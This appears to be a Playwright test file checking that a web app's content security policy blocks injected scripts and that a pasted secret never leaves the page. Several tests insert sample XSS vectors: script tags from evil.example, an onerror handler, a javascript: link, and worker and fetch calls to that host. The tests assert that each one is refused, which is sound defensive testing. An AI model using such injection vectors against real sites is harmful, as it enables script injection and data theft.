// The content policy holds and is in nobody's way, and a pasted text goes nowhere.
import { test as plain, type Request } from '@playwright/test'
import { chooseBackends, expect, parts, settled, test } from './page.ts'

const SECRET = 'Quokka zanzibar seventythree'

interface Violation {
  directive: string
  what: string
}

declare global {
  interface Window {
    violations: Violation[]
  }
}

test('nothing on the way through the page breaks its policy, and no request carries the text', async ({
  page,
  context,
}) => {
  const requests: Request[] = []
  context.on('request', (request) => requests.push(request))
  await page.addInitScript(() => {
    window.violations = []
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) =>
      window.violations.push({ directive: effectiveDirective, what: `${blockedURI} ${sample}` }),
    )
  })
  await page.goto('./')
  await settled(page)
  await parts(page).text.fill(SECRET)
  await parts(page).text.press('Control+Enter')
  await expect(parts(page).tokens).toContainText('zan')
  await settled(page)
  for (const kind of ['WebGPU', 'wasm'] as const) await chooseBackends(page, kind)

  // What a library might style or fetch on its own: menus, dialogs, files saved, pages fetched when needed.
  await page.getByRole('button', { name: 'Export' }).click()
  const saved = page.waitForEvent('download')
  await page.getByRole('menuitem', { name: 'Features as npz' }).click()
  expect((await saved).suggestedFilename()).toMatch(/\.npz$/)
  await page.getByRole('button', { name: 'Keys' }).click()
  await expect(page.getByRole('dialog', { name: 'Keys' })).toBeVisible()
  await page.keyboard.press('Escape')
  await parts(page).featureLinks.first().click()
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  for (const place of ['sources', 'storage', 'verify']) {
    await page.goto(`./#/${place}`)
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  }
  expect(await page.evaluate(() => window.violations)).toEqual([])

  // That no request leaves the origin is checked after every test; here, what they say.
  expect(requests.length).toBeGreaterThan(20)
  const said = requests.map((request) =>
    decodeURIComponent(`${request.url()} ${JSON.stringify(request.headers())} ${request.postData() ?? ''}`),
  )
  expect(said.filter((words) => /quokka|zanzibar|seventythree/i.test(words))).toEqual([])
  expect(requests.filter((request) => request.method() !== 'GET').map((request) => request.url())).toEqual([])
})

// Plain tests: what the policy stops is an error on the console, as it should be.
plain('scripts that get into the page’s HTML do not run', async ({ page }) => {
  await page.route('**/', async (route) => {
    const response = await route.fetch()
    const body = (await response.text()).replace(
      '<body>',
      `<body><script>window.injected = 'inline'</script>
       <script src="https://evil.example/x.js"></script>
       <img src="missing.png" onerror="window.injected = 'handler'">
       <a id="bad" href="javascript:window.injected='link'">x</a>`,
    )
    await route.fulfill({ response, body })
  })
  await page.goto('./')
  await settled(page)
  await page.locator('#bad').evaluate((link) => (link as HTMLElement).click())
  expect(await page.evaluate(() => Reflect.get(window, 'injected'))).toBeUndefined()
})

plain('text becomes neither code nor markup, in the page or in the engine’s worker', async ({ page }) => {
  await page.goto('./')
  await settled(page)
  const tried = await page.evaluate(() => {
    const ways: Record<string, () => unknown> = {
      eval: () => setTimeout('window.injected = 1'),
      markup: () => {
        document.body.innerHTML += '<b>x</b>'
      },
      script: () => {
        document.createElement('script').src = 'https://evil.example/x.js'
      },
      worker: () => new Worker('https://evil.example/x.js'),
      'data worker': () => new Worker('data:text/javascript,1'),
    }
    return Object.entries(ways).map(([name, way]) => {
      try {
        way()
        return `${name}: let through`
      } catch (error) {
        return `${name}: ${error instanceof TypeError || error instanceof EvalError ? 'refused' : String(error)}`
      }
    })
  })
  expect(tried).toEqual(tried.map((words) => words.replace(/: .*/, ': refused')))

  const engine = page.workers().find((worker) => worker.url().includes('/assets/worker-'))
  const inWorker = await engine?.evaluate(async () => {
    const outcome: string[] = []
    try {
      new Worker('https://evil.example/x.js')
      outcome.push('worker let through')
    } catch {
      outcome.push('worker refused')
    }
    outcome.push(
      await fetch('http://evil.example/').then(
        () => 'fetched',
        () => 'fetch refused',
      ),
    )
    return outcome
  })
  expect(inWorker).toEqual(['worker refused', 'fetch refused'])
})
